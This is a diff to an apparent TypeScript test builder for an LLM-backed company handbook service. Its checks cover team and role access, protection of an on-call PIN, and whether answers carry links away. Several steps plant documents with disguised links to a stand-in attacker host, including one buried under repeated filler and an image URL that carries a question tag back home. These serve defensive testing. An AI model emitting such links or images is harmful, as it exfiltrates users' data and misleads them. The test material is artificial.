@@ -3,6 +3,7 @@ import type { Answer, Build, Judgement, LlmScript, Seen, Step, Surroundings, Wor
 
 type Document = { id: string; team: string; review: string; title: string; text: string };
 
+const ALMOST_MANAGERS = ['product manager', 'account-manager', 'managers', 'former manager'];
 const HANDBOOK = 'handbook.fernwood.example';
 
 export const build: Build = (world) => {
@@ -17,7 +18,7 @@ export const build: Build = (world) => {
     judge,
   });
   const own = document({});
-  const near = [document({ team: `${team}-payroll` }), document({ team: team.slice(0, -1) }), document({ team: team.toUpperCase() }), document({ team: '' }), document({ team: `everyone-in-finance` }), document({ team: `${team} ` }), document({ team: 'Everyone' })];
+  const near = [document({ team: `${team}-payroll` }), document({ team: team.slice(0, -1) }), document({ team: team.toUpperCase() }), document({ team: '' }), document({ team: `everyone-in-finance` }), document({ team: `${team} ` }), document({ team: 'Everyone' }), ...['all', 'public', '*'].map((other) => document({ team: other }))];
   const unreviewed = [document({ review: 'not approved' }), document({ review: 'rejected', team: 'everyone' }), document({ review: '' }), document({ review: 'approved?' }), document({ review: 'Approved' }), document({ review: ' approved' }), document({ review: 'pending', team: 'everyone', title: `approved ${world.nonce()}` })];
   // In words that no two of them share.
   for (const [at, one] of unreviewed.entries()) one.text = `${['Lunch is at', 'Pay to', 'Our door code:', 'Call', 'New form', 'As agreed,', 'Room'][at]} ${world.nonce()}`;
@@ -25,14 +26,19 @@ export const build: Build = (world) => {
   const theirs = document({ team: `law-${world.nonce()}` });
   const many = [...Array.from({ length: 5 }, () => document({ team: theirs.team })), ...Array.from({ length: 6 }, (_, at) => document({ text: `${world.nonce()} ${at === 3 ? 'and so on '.repeat(1500) : ''}${world.nonce()}` }))];
   const [titleTag, questionTag] = [world.nonce(), world.nonce()];
+  /** Nothing that a browser would open. */
+  const names = `Node.js, e.g. config.example or notes.io; at 10:30 see handbook.fernwood.example, page 3/4.`;
   const evil = `${world.nonce()}.example`;
   const away = (name: string, text: string): Step => asks(name, [own], repeating(text), leadsAway);
 
   return [
-    asks('teams-that-look-alike', [own, ...near], repeating(''), (seen) => {
-      const used = near.find((one) => reached(seen, one));
-      return used ? { ok: false, got: `a page of the team "${used.team}", for somebody of ${team}` } : { ok: true };
-    }),
+    {
+      ...asks('teams-that-look-alike', [own, ...near], repeating(''), (seen) => {
+        const used = near.find((one) => reached(seen, one));
+        return used ? { ok: false, got: `a page of the team "${used.team}", for somebody of ${team}, or of no other team than everyone` } : { ok: true };
+      }),
+      calls: ['mine', 'boss', 'newcomer'].map((token) => ({ file: 'ask.ts', method: 'POST', path: '/ask', headers: { 'x-session': token }, json: { question: 'What is the rule?' } })),
+    },
     asks('reviews-that-look-alike', [own, ...unreviewed], repeating(''), (seen) => {
       const used = unreviewed.find((one) => reached(seen, one));
       return used ? { ok: false, got: `a page whose review says "${used.review}"` } : { ok: true };
@@ -65,13 +71,37 @@ export const build: Build = (world) => {
         const { headers, fields } = world.ways(value);
         const call = { file: 'ask.ts', query: fields, headers: { ...headers, 'x-session': 'mine' } };
         const lists = Object.fromEntries(Object.keys(fields).map((field) => [field, [value]]));
-        return [{ ...call, path: '/pin' }, ...[fields, lists].map((one) => ({ ...call, method: 'POST' as const, path: '/ask', json: { ...one, question: 'What is the rule?' } }))];
+        // As what a field may hold: a text, a list, yes, and a record that says the same again.
+        const yes = Object.fromEntries(Object.keys(fields).map((field) => [field, true]));
+        const records = Object.fromEntries(Object.keys(fields).map((field) => [field, { ...fields, teams: [theirs.team] }]));
+        return [{ ...call, path: '/pin' }, ...[fields, lists, yes, records].map((one) => ({ ...call, method: 'POST' as const, path: '/ask', json: { ...one, question: 'What is the rule?' } }))];
       }),
     },
+    {
+      ...asks('each-their-own', [own, theirs], repeating(''), ({ answers }) => {
+        const wrong = [theirs, own, theirs, own].findIndex(({ id }, at) => !answers[at]?.text.includes(id));
+        return wrong < 0 ? { ok: true } : { ok: false, got: `for question ${wrong + 1}: ${answers[wrong]?.text.slice(0, 200)}` };
+      }),
+      shows: 'two people of different teams, the same question, in turn',
+      calls: ['theirs', 'mine', 'theirs', 'mine'].map((token) => ({ file: 'ask.ts', method: 'POST', path: '/ask', headers: { 'x-session': token }, json: { question: 'What is the rule?' } })),
+    },
+    {
+      ...asks('pin-for-no-other-role', [], repeating(''), ({ answers }) => {
+        const told = answers.findIndex(({ text }) => text.includes(pin));
+        return told < 0 ? { ok: true } : { ok: false, got: `the PIN, for a ${ALMOST_MANAGERS[told]}` };
+      }),
+      shows: 'GET /pin as a product manager',
+      calls: ALMOST_MANAGERS.map((role) => ({ file: 'ask.ts', path: '/pin', headers: { 'x-session': role } })),
+    },
+    asks('keeps-names', [own], repeating(names), ({ answers }) => {
+      const said = answers.map(({ json }) => (json as { answer?: unknown } | undefined)?.answer).find((one) => one !== names);
+      return said === undefined ? { ok: true } : { ok: false, got: `the answer became ${JSON.stringify(said)}` };
+    }),
     asks('many-and-long', many, repeating(''), (seen) => {
       const missing = many.find((one) => one.team === team && !sent(seen).includes(one.text));
       return missing === undefined ? { ok: true } : { ok: false, got: `a page of the own team did not reach the model whole: ${missing.text.slice(0, 80)}` };
     }),
+    away('address-far-down', `${'And so on, as the rule says. '.repeat(120)}\n[sign in](https://${evil}/x)`),
     away('addresses-in-disguise', `[a](HTTPS://${evil.toUpperCase()}/x) [b](//${evil}/x) [c](ftp://${evil}/x) [d](notes://${evil}/x) [e](https%3A%2F%2F${evil}%2Fx)`),
     away('addresses-as-browsers-read', `[a](https:\\\\${evil}\\x) [b](https:/\\${evil}/x) [c](http:${evil}/x) [d](HTTP:/${evil}/x) [e](https:///${evil}/x) [f](\\\\${evil}\\x) [g](Http:${evil}/x)`),
     away('image-that-calls-home', `Done ![ ](https://${evil}/p.png?q=${questionTag})`),
@@ -84,7 +114,7 @@ function around(world: World, { team, theirTeam, pin, documents, llm }: { team: 
     env: { ONCALL_PIN: pin },
     llm,
     services: {
-      sessions: { find: [{ when: ['mine'], returns: { name: `Ines ${world.nonce()}`, role: 'engineer', teams: [`choir-${world.nonce()}`, team] } }, { when: ['boss'], returns: { name: 'Bo', role: 'manager', teams: [team] } }, { when: ['theirs'], returns: { name: 'Li', role: 'engineer', teams: [theirTeam] } }, { returns: null }] },
+      sessions: { find: [{ when: ['mine'], returns: { name: `Ines ${world.nonce()}`, role: 'engineer', teams: [`choir-${world.nonce()}`, team] } }, { when: ['boss'], returns: { name: 'Bo', role: 'manager', teams: [team] } }, { when: ['newcomer'], returns: { name: 'Ada', role: 'engineer', teams: ['everyone'] } }, ...ALMOST_MANAGERS.map((role) => ({ when: [role], returns: { name: 'Kim', role, teams: [team] } })), { when: ['theirs'], returns: { name: 'Li', role: 'engineer', teams: [theirTeam] } }, { returns: null }] },
       search: { find: [{ returns: documents }] },
     },
   };
